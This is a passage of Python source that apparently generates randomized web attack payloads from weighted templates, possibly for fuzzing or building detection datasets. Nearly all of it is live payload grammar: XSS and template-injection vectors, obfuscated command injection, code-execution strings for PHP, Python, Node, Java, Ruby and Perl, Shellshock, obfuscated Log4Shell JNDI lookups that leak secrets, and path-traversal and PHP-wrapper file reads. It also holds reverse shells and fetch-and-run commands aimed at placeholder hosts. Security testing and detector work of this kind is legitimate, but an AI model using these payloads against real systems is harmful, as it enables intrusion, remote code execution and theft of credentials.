_def("x_pre", [(14, ""), (4, "\">"), (3, "'>"), (2, ">"), (1, "\"/>"), (1, "'/>"), (1, "</title>"), (1, "</textarea>"),
               (2, "</script>"), (1, "</style>"), (1, "</noscript>"), (1, "-->"), (1, "]]>"), (1, "\">'>"),
               (1, "</option></select>"), (1, "</iframe>"), (1, "'\">"), (1, "§w§\">"), (1, "\"></a>"), (1, "</p>"),
               (1, "§w§'>"), (1, "\" >"), (1, "</xmp>"), (1, "</template>"), (1, "\"]>"), (1, "'))\">")])
_def("x_post", [(20, ""), (2, "//"), (1, "<!--"), (1, "\""), (1, "'"), (1, "<\""), (1, "//-->"), (1, "<x \""),
                (1, "<!-- "), (1, "#"), (1, "§W§")])


def _attr_break(rng: random.Random) -> str:
    quote = rng.choice(('"', '"', "'", ""))
    js = _s("js", rng)
    if quote and quote in js:
        quote = "'" if quote == '"' else '"'
        if quote in js:
            quote = ""
    sep = rng.choice((" ", " ", " ", "/", "\n", "\t"))
    q = quote
    templates = (
        f"{q}{sep}{_s('ev_mouse', rng)}={q}{js}", f"{q}{sep}autofocus onfocus={q}{js}",
        f"{q}{sep}onfocus={q}{js}{q} autofocus={q}", f"{q}{sep}style={q}animation-name:{_word(rng)}{q} onanimationstart={q}{js}",
        f"{q}{sep}accesskey={q}x{q} onclick={q}{js}", f"{q}{sep}src=x onerror={q}{js}",
        f"{q}{sep}{_s('ev_mouse', rng)}={q}{js}{q} x={q}", f"{q}{sep}onpointerover={q}{js}",
        f"{q}{sep}tabindex=1 onfocus={q}{js}{q} autofocus {q}", f"{q}{sep}onload={q}{js}",
        f"{_word(rng)}{q}{sep}{_s('ev_mouse', rng)}={q}{js}", f"{q}{sep}href={q}javascript:{js}",
        f"{q}{sep}formaction={q}javascript:{js}", f"{q}{sep}onerror={q}{js}{q} src={q}x")
    return rng.choice(templates)


_def("x_attrbreak", _attr_break)
_def("x_jsctx", [
    (4, "';§js§//"), (3, "\";§js§//"), (3, "'-§js§-'"), (2, "\"-§js§-\""), (2, "'+§js§+'"), (1, "\\';§js§//"),
    (3, "</script><script>§js§</script>"), (2, "</script><svg onload=§ajs§>"), (2, "${§js§}"), (1, "`;§js§;`"),
    (1, "';§js§;var §w§='"), (1, "\";§js§;var §w§=\""), (1, "'};§js§;//"), (1, "'));§js§;//"), (1, "\\\"-§js§}//"),
    (1, "1;§js§"), (1, "§n§);§js§;("), (1, "'-§js§//"), (1, "';§js§;'"), (1, "\"}];§js§;//"), (1, "*/§js§/*"),
    (1, "'%0a§js§//"), (1, "\\u0027;§js§//"), (1, "';}§js§;function §w§(){'"), (1, "\"+§js§+\"")])
_def("x_uri", [
    (6, "javascript:§js§"), (2, "javascript://§w§%0a§js§"), "javascript://%0d%0a§js§", "javascript:void(§js§)",
    "javascript:/*§w§*/§js§", "java\tscript:§js§", "java&#09;script:§js§", "java%09script:§js§", " javascript:§js§",
    "javascript:§js§//http://§trusted§", "javascript://§trusted§/%0a§js§", "jav&#x0A;ascript:§js§",
    (2, "data:text/html,<script>§js§</script>"), (2, "data:text/html;base64,§b64html§"),
    "data:text/html;charset=utf-8,<svg onload=§js§>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§js§'/>",
    "data:image/svg+xml;base64,§b64html§", "vbscript:msgbox(§n§)", "vbscript:alert(§n§)", "javascript:'<img src=x onerror=§js§>'",
    "&#106;avascript:§js§", "javascript:%61lert(§n§)", r"javascript\x3a§js§", "javascript&colon;§js§"])
_def("x_tmpl", [
    (2, "{{constructor.constructor('§jfq§(§jarg_s§)')()}}"), "{{$on.constructor('§jfq§(§jarg_s§)')()}}",
    "{{[].pop.constructor('§jfq§(§n§)')()}}", "{{$eval.constructor('§jfq§(§n§)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=§jfq§(§n§)');}}", "<div ng-app>{{constructor.constructor('§jfq§(§n§)')()}}</div>",
    "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([§n§],§jfq§)'\">",
    "{{_c.constructor('§jfq§(§n§)')()}}", "{{$el.ownerDocument.defaultView.§jfq§(§n§)}}",
    "<div v-html=\"'<img src=x onerror=§jfq§(§n§)>'\"></div>", (2, "#<img src=x onerror=§ajs§>"), "#javascript:§js§",
    "#\"><svg onload=§ajs§>", "<template><img src=x onerror=§ajs§></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=§ajs§>\">", "<svg><style><img src=x onerror=§ajs§></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=§ajs§>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§ajs§>",
    "<img src=x onerror=$.globalEval('§jfq§(§n§)')>", "<div data-bind=\"html:'<img src=x onerror=§jfq§(§n§)>'\"></div>",
    "<x ng-init=\"constructor.constructor('§jfq§(§n§)')()\">", "<div id=\"x\" data-template=\"<svg onload=§jfq§(§n§)>\"></div>",
    "[§w§](javascript:§js§)", "[§w§](javascript:this;§js§)", "![§w§](x\"onerror=\"§js§)"])
_def("x_comment", [
    "<!--><svg onload=§ajs§>-->", "<![CDATA[<script>§js§</script>]]>", "<!--<img src=\"--><img src=x onerror=§ajs§//\">",
    "<!-- --!><script>§js§</script>", "<comment><img src=\"</comment><img src=x onerror=§ajs§>\">",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">§js§</x:script>",
    "<![CDATA[><svg onload=§ajs§>]]>", "<!--§w§--><script>§js§</script>", "<scr<script>ipt>§js§</scr</script>ipt>",
    "<<script>script>§js§<</script>/script>", "<scri<!--§w§-->pt>§js§</script>", "<!--[if gte IE 4]><script>§js§</script><![endif]-->",
    "<? foo=\"><script>§js§</script>\">", "<!--\"><img src=x onerror=§ajs§>-->", "<img src=\"x` `<script>§js§</script>\"` `>",
    "<title><img src=\"</title><img src=x onerror=§ajs§>\">", "<style><style/><img src=x onerror=§ajs§>",
    "<textarea><img src=\"</textarea><img src=x onerror=§ajs§>\">"])


def _polyglot(rng: random.Random) -> str:
    starts = ("javascript:/*", "'\"", "\"'", "';", "\";", "-->", "*/", "jaVasCript:", "'\"`", "\"'`--></",
              "</script>'\"", "javascript://'/</title></style></textarea></script>--><p\" onclick=" + _s("js", rng) + "//>*/")
    breakers = ("</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</xmp>", "-->", "]]>", "*/",
                "'", "\"", "`", "</template>", "</iframe>", "--!>", "</select>")
    ends = ("", "//", "<!--", "//-->", "*/", "\\", "'", "\"")
    parts = [rng.choice(starts)]
    parts += rng.sample(breakers, rng.randint(2, 6))
    parts.append(_s("x_vec", rng))
    parts.append(rng.choice(ends))
    return "".join(parts)


_def("x_poly", _polyglot)
_def("xss", [(12, "§x_pre§§x_vec§§x_post§"), (6, "§x_attrbreak§"), (4, "§x_jsctx§"), (4, "§x_uri§"), (3, "§x_tmpl§"),
             (2, "§x_comment§"), (1, "§x_poly§")])


# ---------------------------------------------------------------------------------------------
# OS command and code injection
# ---------------------------------------------------------------------------------------------

_def("r_pre", [(8, ""), (3, "§r_val§"), (1, "127.0.0.1"), (1, "8.8.8.8"), (1, "localhost"), (1, "§w§.txt"),
               (1, "'"), (1, "\""), (1, "x'"), (1, "\";"), (1, "';"), (1, "§w§'"), (1, "§w§\""), (1, "-c 1 127.0.0.1"),
               (1, "§w§@§w§.com"), (1, "§n§"), (1, "/tmp/§w§"), (1, "§trusted§")])
_def("r_val", ["§ip§", "§trusted§", "§w§", "§n§", "§N§", "§w§.jpg", "report.pdf", "§w§-§n§", "google.com", "10.0.0.§n§"])
_def("r_sep", [(10, ";"), (4, "; "), (8, "|"), (3, " | "), (5, "||"), (2, " || "), (6, "&&"), (2, " && "), (4, "&"),
               (2, " & "), (5, "\n"), (1, "\r\n"), (4, "%0a"), (1, "%0A"), (1, "%0d%0a"), (1, ";;"), (1, "\n\n"),
               (1, "%3b"), (1, "%7c"), (1, "%26%26"), (1, "\x0b"), (1, "\t|")])
_def("r_tail", [(14, ""), (2, ";"), (2, " #"), (1, "#"), (1, " &"), (1, "&"), (1, "|"), (1, ";#"), (1, " 2>&1"),
                (1, " >/dev/null"), (1, " > /dev/null 2>&1"), (1, "'"), (1, "\""), (1, " ;"), (1, "%00"), (1, "&&"),
                (1, "\n"), (1, "||a #"), (1, " #§w§"), (1, "| tee /tmp/§w§")])
_def("r_inj", [(10, "§r_pre§§r_sep§§ucmd§§r_tail§"), (2, "§r_pre§§r_sep§§wcmd§§r_tail§"),
               (1, "§r_pre§§r_sep§§ucmd§§r_sep§§ucmd_simple§§r_tail§"), (1, "§r_pre§%0a§ucmd§%0a")])
_def("r_subst", [
    (4, "§r_pre§$(§ucmd§)"), (3, "§r_pre§`§cmdbt§`"), (3, "$(§ucmd§)"), (2, "`§cmdbt§`"), "§r_pre§;echo $(§ucmd§)",
    "§w§$(§ucmd_simple§)§w§", "\"$(§ucmd§)\"", "';$(§ucmd§);'", "$(§ucmd_simple§)§r_tail§", "§r_pre§$(§ucmd_simple§)§r_tail§",
    "x=$(§ucmd_simple§)", "<(§ucmd_simple§)", ">(§ucmd_simple§)", "§r_pre§|`§cmdbt§`", "${§w§:-$(§ucmd_simple§)}"])
_def("obf_cmd", ["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "cat /§unix_file§", "curl §host§",
                 "wget §host§/§w§", "nc §ip§ §port§ -e /bin/sh", "ping -c 1 §host§", "sleep §n§", "cat /etc/shadow",
                 "head /etc/passwd", "ls /", "cat /proc/self/environ", "curl §host§/§script§ -o /tmp/§w§", "ls -la",
                 "bash -i >& /dev/tcp/§ip§/§port§ 0>&1", "nslookup §host§", "whoami;id"])


def _split_insert(word: str, rng: random.Random) -> str:
    if len(word) < 2:
        return word
    i = rng.randint(1, len(word) - 1)
    mode = rng.randrange(8)
    if mode == 0:
        j = min(len(word), i + 1)
        return f"{word[:i]}'{word[i:j]}'{word[j:]}"
    if mode == 1:
        return f'{word[:i]}"{word[i:]}"' if rng.random() < 0.5 else f'{word[:i]}""{word[i:]}'
    if mode == 2:
        return word[:i] + "\\" + word[i:]
    if mode == 3:
        return word[:i] + "$@" + word[i:]
    if mode == 4:
        return word[:i] + "$()" + word[i:]
    if mode == 5:
        return word[:i] + "${" + _letters(rng, 1, 3) + "}" + word[i:]
    if mode == 6:
        return word[:i] + "''" + word[i:]
    return "".join(ch + ("\\" if rng.random() < 0.4 and k < len(word) - 1 else "") for k, ch in enumerate(word))


def _glob_path(path: str, rng: random.Random) -> str:
    out = []
    for ch in path:
        if ch.isalpha() and rng.random() < 0.45:
            out.append("?")
        else:
            out.append(ch)
    text = "".join(out)
    if rng.random() < 0.3:
        text = re.sub(r"/([a-z])([a-z]+)", lambda m: f"/{m[1]}[{m[2][0]}]{m[2][1:]}", path)
    return text


def _shell_obfuscate(rng: random.Random) -> str:
    cmd = _s("obf_cmd", rng)
    head, _, rest = cmd.partition(" ")
    mode = rng.randrange(14)
    if mode == 0:
        sp = rng.choice(("${IFS}", "$IFS$9", "${IFS%??}", "$IFS", "%09", "\t", "${IFS}"))
        out = cmd.replace(" ", sp)
    elif mode == 1 and rest and not any(c in cmd for c in "|;&>'\"$"):
        out = "{" + ",".join(cmd.split(" ")) + "}"
    elif mode == 2 and head in ("cat", "head", "nl", "more", "less") and rest:
        out = f"{head}<{rest}"
    elif mode == 3:
        out = " ".join([_split_insert(head, rng)] + ([rest] if rest else []))
    elif mode == 4 and "/" in rest:
        out = f"{head} " + re.sub(r"/[\w./-]+", lambda m: _glob_path(m[0], rng), rest)
    elif mode == 5:
        b = _b64(cmd)
        out = rng.choice((f"echo {b}|base64 -d|sh", f"bash<<<$(base64 -d<<<{b})", f"{{echo,{b}}}|{{base64,-d}}|{{bash,-i}}",
                          f"echo${{IFS}}{b}|base64${{IFS}}-d|bash", f"sh -c \"$(echo {b}|base64 --decode)\""))
    elif mode == 6:
        out = "$(printf '" + "".join("\\x%02x" % ord(c) for c in head) + "')" + (" " + rest if rest else "")
    elif mode == 7:
        out = "$'" + "".join("\\x%02x" % ord(c) for c in head) + "'" + (" " + rest if rest else "")
    elif mode == 8:
        out = "$(rev<<<'" + head[::-1] + "')" + (" " + rest if rest else "")
    elif mode == 9 and len(head) > 1:
        cut = rng.randint(1, len(head) - 1)
        a, b = _letters(rng, 1, 2), _letters(rng, 1, 2)
        if a == b:
            b += "x"
        out = f"{a}={head[:cut]};{b}={head[cut:]};${a}${b}" + (" " + rest if rest else "")
    elif mode == 10 and "/" in cmd:
        var = rng.choice(("${HOME:0:1}", "${PATH:0:1}", "${PWD:0:1}", "$(echo /)"))
        out = head + " " + rest.replace("/", var) if rest else cmd
    elif mode == 11:
        prefix = rng.choice(("/bin/", "/usr/bin/", "/???/", "/b??/", "/usr/b?n/"))
        out = prefix + head.replace(head[len(head) // 2], "?", 1) + (" " + rest if rest else "")
    elif mode == 12:
        out = "$(echo -e '" + "".join("\\x%02x" % ord(c) for c in cmd) + "')"
    else:
        out = " ".join(_split_insert(part, rng) if part.isalpha() else part for part in cmd.split(" "))
    return _s("r_pre", rng) + _s("r_sep", rng) + out + _s("r_tail", rng)


_def("r_obf", _shell_obfuscate)
_def("r_win", [(6, "§r_pre§§wsep§§wcmd§§r_tail§"), (1, "§wcmd§"), (1, "§r_pre§§wsep§§wcmd§§wsep§§wcmd_simple§")])
_def("wsep", [(4, "&"), (3, "&&"), (3, "|"), (2, "||"), (1, "\r\n"), (1, "%0a"), (1, " & "), (1, "%26"), (1, "\n")])
_def("php_fn", ["system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval"])
_def("ci_pre", [(10, ""), (2, "';"), (2, "\";"), (1, "');"), (1, "\");"), (1, ");"), (1, "1;"), (1, "*/"), (1, "}"),
                (1, "'."), (1, "\"."), (1, "]);"), (1, "${"), (1, "';\n")])
_def("ci_suf", [(10, ""), (2, "//"), (2, "#"), (1, ";"), (1, "/*"), (1, "--"), (1, ";//"), (1, "}"), (1, ".'"), (1, ".\"")])
_def("code_php", [
    (4, "system('§cmdq§');"), (2, "system(\"§cmdqq§\");"), "exec('§cmdq§');", "shell_exec('§cmdq§');", "passthru('§cmdq§');",
    "popen('§cmdq§','r');", "proc_open('§cmdq§',array(),$p);", "echo `§cmdbt§`;", (2, "§phpshell§"),
    "eval(base64_decode('§b64php§'));", "assert('system(\"§cmdqq§\")');", "${@system('§cmdq§')}", "${@print(md5(§N§))}",
    "phpinfo();", "print(§nn§*§nn§);", "file_put_contents('§w§.php','<?php system($_GET[§param§]);?>');",
    "preg_replace('/.*/e','system(\"§cmdqq§\")','');", "call_user_func('system','§cmdq§');",
    "array_map('system',array('§cmdq§'));", "create_function('','system(\"§cmdqq§\");');",
    "include('http://§host§/§w§.txt');", "$_GET[0]($_GET[1]);", "print_r(scandir('/'));",
    "var_dump(file_get_contents('/§unix_file§'));", "highlight_file('/§unix_file§');", "die(md5(§N§));",
    "@eval($_REQUEST['§param§']);", "usort($_GET,'system');", "{${system('§cmdq§')}}", "\".system('§cmdq§').\"",
    "'.shell_exec('§cmdq§').'", "system($_GET['§param§']);", "${system($_GET[§param§])}", "<?php §php_fn§('§cmdq§'); ?>"])
_def("b64php", lambda rng: _b64(_fill(rng.choice(("system('§cmdq§');", "phpinfo();", "echo shell_exec('§cmdq§');",
                                                   "@eval($_POST['§param§']);")), rng)))
_def("code_py", [
    (4, "__import__('os').system('§cmdq§')"), (3, "__import__('os').popen('§cmdq§').read()"),
    "__import__('subprocess').check_output('§cmdq§',shell=True)", "__import__('subprocess').getoutput('§cmdq§')",
    "eval(\"__import__('os').system('§cmdq§')\")", "exec('import os;os.system(\"§cmdqq§\")')",
    "exec(__import__('base64').b64decode('§b64py§'))", "getattr(__import__('os'),'system')('§cmdq§')",
    "__builtins__.__import__('os').system('§cmdq§')", "import os;os.system('§cmdq§')", "open('/§unix_file§').read()",
    "__import__('os').popen('§cmdq§').read()#", "eval(compile('import os\\nos.system(\"§cmdqq§\")','x','exec'))",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('§cmdq§')",
    "__import__('pty').spawn('/bin/sh')", "__import__('time').sleep(§n§)", "str(__import__('os').listdir('/'))",
    "globals()['__builtins__']['__import__']('os').system('§cmdq§')", "os.system('§cmdq§')",
    "subprocess.Popen('§cmdq§',shell=True)", "__import__('os').execl('/bin/sh','sh','-c','§cmdq§')"])
_def("b64py", lambda rng: _b64(f"import os;os.system('{_s('cmdq', rng)}')"))
_def("code_rb", [
    "system('§cmdq§')", "`§cmdbt§`", "%x(§cmdq§)", "IO.popen('§cmdq§').read", "Kernel.exec('§cmdq§')", "exec('§cmdq§')",
    "Open3.capture2('§cmdq§')", "#{`§cmdbt§`}", "#{system('§cmdq§')}", "open('|§cmdq§').read", "File.read('/§unix_file§')",
    "Process.spawn('§cmdq§')", "send(:system,'§cmdq§')", "Kernel.send(:eval,'`§cmdbt§`')", "spawn('§cmdq§')",
    "eval('system(\"§cmdqq§\")')", "instance_eval('`§cmdbt§`')"])
_def("code_node", [
    (4, "require('child_process').exec('§cmdq§')"), (3, "require('child_process').execSync('§cmdq§').toString()"),
    (2, "process.mainModule.require('child_process').execSync('§cmdq§')"),
    "global.process.mainModule.constructor._load('child_process').execSync('§cmdq§')",
    "require('child_process').spawn('§spawnbin§',['-c','§cmdq§'])",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('§cmdq§')",
    "eval(\"require('child_process').exec('§cmdq§')\")", "require('fs').readFileSync('/§unix_file§','utf8')",
    "res.end(require('fs').readdirSync('.').toString())", "process.kill(process.pid)", "process.exit()",
    "require('child_process').exec('§cmdq§',function(e,o){console.log(o)})", "new Function('return process')().env",
    "while(1){}", "setTimeout(function(){while(true){}},0)", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','§cmdq§'],stdio:[{type:'pipe',readable:1}]})",
    "import('child_process').then(m=>m.execSync('§cmdq§'))", "require('http').get('http://§host§/?'+process.env.HOME)"])
_def("spawnbin", ["/bin/sh", "sh", "bash", "/bin/bash"])
_def("code_java", [
    (3, "Runtime.getRuntime().exec(\"§cmdqq§\")"), "new ProcessBuilder(\"sh\",\"-c\",\"§cmdqq§\").start()",
    "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"§cmdqq§\"})",
    (2, "${T(java.lang.Runtime).getRuntime().exec('§cmdq§')}"), "#{T(java.lang.Runtime).getRuntime().exec('§cmdq§')}",
    "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('§cmdq§'))}",
    "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('§cmdq§'))}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'§spawnbin§','-c','§cmdq§'})).start()}",
    "\"§cmdqq§\".execute()", "'§cmdq§'.execute().text", "[\"sh\",\"-c\",\"§cmdqq§\"].execute()",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"§cmdqq§\")",
    "T(java.lang.System).getenv()", "new java.util.Scanner(Runtime.getRuntime().exec(\"§cmdqq§\").getInputStream()).next()",
    "@java.lang.Runtime@getRuntime().exec('§cmdq§')", "javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('§cmdq§')\")"])
_def("code_perl", ["system('§cmdq§')", "`§cmdbt§`", "open(F,'|§cmdq§')", "exec('§cmdq§')", "qx{§cmdq§}",
                   "eval{system('§cmdq§')}", "print `§cmdbt§`", "open(my $f,'-|','§cmdq§')"])
_def("r_code", [(6, "§ci_pre§§code_php§§ci_suf§"), (5, "§ci_pre§§code_py§§ci_suf§"), (3, "§ci_pre§§code_rb§§ci_suf§"),
                (5, "§ci_pre§§code_node§§ci_suf§"), (4, "§ci_pre§§code_java§§ci_suf§"), (1, "§ci_pre§§code_perl§§ci_suf§")])
_def("ucmd_abs", ["/bin/id", "/usr/bin/id", "/bin/cat /etc/passwd", "/usr/bin/whoami", "/bin/ping -c §n§ §host§",
                  "/usr/bin/curl http://§host§/", "/bin/bash -i >& /dev/tcp/§ip§/§port§ 0>&1",
                  "/usr/bin/wget -qO- http://§host§/§script§|/bin/sh", "/bin/sleep §n§", "/bin/uname -a",
                  "/usr/bin/nslookup §rand§.§host§", "/bin/ls -la /", "/bin/cat /§unix_file§", "/usr/bin/env"])
_def("r_shellshock", [
    (4, "() { :; }; §ucmd_abs§"), (2, "() { :;}; echo; §ucmd_abs§"), (2, "() { :; }; /bin/bash -c '§cmdq§'"),
    "() { _; } >_[$($())] { §ucmd_abs§; }", "() { :;}; /bin/sh -c \"§cmdqq§\"",
    "() { x;}; echo Content-Type: text/plain; echo; §ucmd_abs§", "() { :; }; echo vulnerable; §ucmd_abs§",
    "() { ignored;}; §ucmd_abs§", "() { :;};a=`§cmdbt§`;echo $a"])


def _jndi(rng: random.Random) -> str:
    def obf(text: str) -> str:
        out = []
        for ch in text:
            r = rng.random()
            if r < 0.55 or not ch.isalpha():
                out.append(ch)
            elif r < 0.7:
                out.append("${::-" + ch + "}")
            elif r < 0.8:
                out.append("${lower:" + ch + "}")
            elif r < 0.87:
                out.append("${upper:" + ch + "}")
            elif r < 0.94:
                out.append("${env:" + _letters(rng, 2, 6).upper() + ":-" + ch + "}")
            else:
                out.append("${date:'" + ch + "'}")
        return "".join(out)

    proto = rng.choice(("ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "nis", "nds", "corba", "http"))
    target = rng.choice((_host(rng), f"{_host(rng)}:{_s('port', rng)}", f"{_pub_ip(rng)}:{_s('port', rng)}"))
    leak = rng.choice(("", "", "", "${env:USER}.", "${sys:java.version}.", "${hostName}.", "${env:AWS_SECRET_ACCESS_KEY}.",
                       "${java:version}.", "${sys:user.name}."))
    jndi = obf("jndi") if rng.random() < 0.4 else "jndi"
    prot = obf(proto) if rng.random() < 0.3 else proto
    colon = rng.choice((":", ":", ":", "${::-:}"))
    path = rng.choice(("a", _word(rng), _letters(rng, 4, 10), "Exploit", "o=reference", "x", "${env:HOSTNAME}"))
    return "${" + jndi + colon + prot + "://" + leak + target + "/" + path + "}"


_def("r_jndi", _jndi)
_def("rce", [(24, "§r_inj§"), (6, "§r_subst§"), (8, "§r_obf§"), (6, "§r_win§"), (14, "§r_code§"), (3, "§r_shellshock§"),
             (3, "§r_jndi§")])


# ---------------------------------------------------------------------------------------------
# Local file inclusion / path traversal
# ---------------------------------------------------------------------------------------------

_TRAVERSAL = _Pick([
    (16, "../"), (4, "..\\"), (3, "..%2f"), (1, "..%2F"), (2, "%2e%2e%2f"), (2, "%2e%2e/"), (1, "%2E%2E%2F"),
    (2, "..%252f"), (1, "%252e%252e%252f"), (3, "....//"), (1, "..././"), (1, "....\\\\"), (1, "..%5c"),
    (1, "..%255c"), (1, "%2e%2e%5c"), (2, "..%c0%af"), (1, "%c0%ae%c0%ae/"), (1, "%c0%ae%c0%ae%c0%af"),
    (1, "..%e0%80%af"), (1, "..%c1%9c"), (1, ".%2e/"), (1, "%2e./"), (1, "..;/"), (1, "..//"), (1, "..\\/"),
    (1, "%uff0e%uff0e/"), (1, "..%ef%bc%8f"), (1, "%u002e%u002e%u2215"), (1, "..%u2216"), (1, ".../"),
    (1, "%%32%65%%32%65/"), (1, "..\\\\"), (1, "..%00/"), (1, "..%2f%2f")])
_def("null_suffix", [(4, "%00"), (2, "%00.§imgext§"), (1, "%00.php"), (1, "%00.html"), (1, "%2500"), (1, "?"), (1, "#"),
                     (1, "%23"), (1, "/."), (1, "/./././././."), (1, "%20"), (1, "::$DATA"), (1, "%0a"), (1, "\\0"),
                     (1, "%00%00"), (1, ".%00.§imgext§"), (1, "?§w§=1")])
_def("imgext", ["jpg", "png", "gif", "jpeg", "pdf", "txt", "html", "php", "css", "js"])
_def("legit_dir", ["images", "static", "uploads", "files", "assets", "img", "docs", "templates", "lang", "include",
                   "/var/www/html", "/var/www/images", "/usr/share/nginx/html", "themes/default", "public", "download",
                   "media/§w§", "pages", "content", "/app/static", "cgi-bin", "/home/§w§/public_html"])


def _traverse(rng: random.Random) -> str:
    kind = rng.choices(("unix", "win", "app"), weights=(62, 20, 18))[0]
    depth = rng.choices(range(1, 16), weights=(4, 6, 8, 10, 10, 10, 9, 8, 7, 5, 4, 3, 2, 2, 2))[0]
    if kind == "app":
        depth = min(depth, rng.randint(1, 5))
    mixed = rng.random() < 0.12
    step = _TRAVERSAL(rng)
    steps = "".join(_TRAVERSAL(rng) if mixed else step for _ in range(depth))
    target = _s(kind + "_file", rng)
    backslashes = "\\" in step and "/" not in step
    if kind == "win" and (backslashes or rng.random() < 0.4):
        target = target.replace("/", "\\")
    elif "%2f" in step.lower() and rng.random() < 0.5:
        target = target.replace("/", step[-3:] if step.lower().endswith("%2f") else "/")
    lead = rng.random()
    if lead < 0.15:
        steps = "/" + steps
    elif lead < 0.22:
        steps = "./" + steps
    elif lead < 0.36:
        steps = _s("legit_dir", rng).rstrip("/") + "/" + steps
    elif lead < 0.42:
        steps = _s("w", rng) + "." + _s("imgext", rng) + "/" + steps
    out = steps + target
    if rng.random() < 0.18:
        out += _s("null_suffix", rng)
    return out


_def("l_trav", _traverse)
_def("l_abs", [
    (6, "/§unix_file§"), (2, "c:\\§win_file_bs§"), (2, "C:/§win_file§"), "\\\\?\\c:\\§win_file_bs§", (3, "file:///§unix_file§"),
    "/./§unix_file§", "//§unix_file§", "/§unix_file§%00", "/proc/self/fd/§n§", "/proc/§pid§/environ",
    "%SYSTEMROOT%\\win.ini", "%WINDIR%\\system32\\drivers\\etc\\hosts", "\\\\localhost\\c$\\§win_file_bs§",
    "\\\\127.0.0.1\\c$\\§win_file_bs§", "/§unix_file§%00.§imgext§", "d:\\§win_file_bs§", "/var/www/html/../../../§unix_file§",
    "/etc/./passwd", "/etc//passwd", "/../../../../§unix_file§", "\\§win_file_bs§", "c:§win_file_bs§",
    "/§unix_file§::$DATA", "/%2e/§unix_file§"])
_def("wrap_target", [(4, "index.php"), (3, "config.php"), "../config.php", (3, "§app_file§"), (4, "/§unix_file§"),
                     "../../../../§unix_file§", "admin.php", "db.php", "login.php", "§w§.php", "upload.php",
                     "/var/www/html/§appfile§", "php://stdin"])
_def("l_wrap", [
    (8, "php://filter/convert.base64-encode/resource=§wrap_target§"), (3, "php://filter/read=convert.base64-encode/resource=§wrap_target§"),
    (2, "php://filter/string.rot13/resource=§wrap_target§"), "php://filter/read=string.rot13/resource=§wrap_target§",
    (2, "php://filter/convert.iconv.utf-8.utf-16le/resource=§wrap_target§"), "php://filter/convert.iconv.UTF8.CSISO2022KR/resource=§wrap_target§",
    "php://filter/zlib.deflate/convert.base64-encode/resource=§wrap_target§", "php://filter/read=string.toupper|string.rot13/resource=§wrap_target§",
    "php://filter/convert.quoted-printable-encode/resource=§wrap_target§", "php://filter/resource=§wrap_target§",
    "php://filter/string.strip_tags/resource=§wrap_target§", "php://filter/convert.base64-decode/resource=§wrap_target§",
    (3, "php://input"), "php://fd/§n§", "php://stdin", (4, "file://§unix_abs§"), "file:§unix_abs§", "file://localhost§unix_abs§",
    "file:///c:/§win_file§", (2, "zip://§upload§.zip%23§w§.php"), "zip://§upload§.zip#§w§.php", (2, "phar://§upload§.§imgext§/§w§.php"),
    "phar://./uploads/§w§.phar/§w§", (2, "expect://§expectcmd§"), (3, "data://text/plain;base64,§b64php§"),
    "data://text/plain,§phpshell§", "data:text/plain,§phpshell§", "data:;base64,§b64php§", "data://text/plain;base64,§b64phpshell§",
    "glob:///var/www/html/*", "compress.zlib://§unix_abs§", "compress.bzip2://§unix_abs§", "jar:file:///§jarpath§!/§w§",
    "jar:http://§host§/§w§.jar!/", "netdoc:///§unix_file§", (3, "http://§host§/§w§.txt?"), "http://§host§/shell.txt%00",
    "https://§host§/§w§.php", "\\\\§host§\\share\\§w§.php", "ftp://§host§/§w§.txt", "//§host§/§w§.txt",
    "http://§host§/§w§.txt#", "https://§host§/§w§?.jpg", "phar:///var/www/html/uploads/§w§.§imgext§"])
_def("upload", ["/var/www/html/uploads/§w§", "uploads/§w§", "/tmp/§w§", "./§w§", "/var/www/uploads/§rand§", "files/§w§"])
_def("jarpath", ["opt/tomcat/webapps/§w§.war", "tmp/§w§.jar", "var/lib/§w§/app.jar", "usr/share/java/§w§.jar"])
_def("expectcmd", ["id", "whoami", "ls", "ls%20-la", "cat%20/etc/passwd", "uname%20-a", "pwd", "ls${IFS}/"])
_def("b64phpshell", lambda rng: _b64(_s("phpshell", rng)))
_def("l_prefixed", [
    "§legit_dir§/../../../§unix_file§", "/var/www/html/§n§/../../../../§unix_file§", "§w§.php/../../../§unix_file§",
    "static/%2e%2e/%2e%2e/%2e%2e/§unix_file§", "/images/..;/..;/WEB-INF/web.xml", "/..;/..;/..;/§unix_file§",
    "/static/..%2f..%2f..%2f§unix_file§", "/%2e%2e/%2e%2e/%2e%2e/§unix_file§", "§legit_dir§/....//....//....//§unix_file§",
    "/assets/../../../../../../§unix_file§", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/§unix_file§", "/%5c../%5c../%5c../§unix_file§",
    "/.%252e/.%252e/.%252e/§unix_file§", "/icons/.%%32%65/.%%32%65/§unix_file§", "§legit_dir§/..\\..\\..\\§win_file_bs§",
    "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF", "./WEB-INF/web.xml%3f", "/..%5c..%5c..%5c§win_file_bs§",
    "§w§/../../§app_file§", "../§app_file§", "../../§app_file§", "/.%2e/.%2e/§app_file§", "/static../§app_file§",
    "/files../§app_file§"])
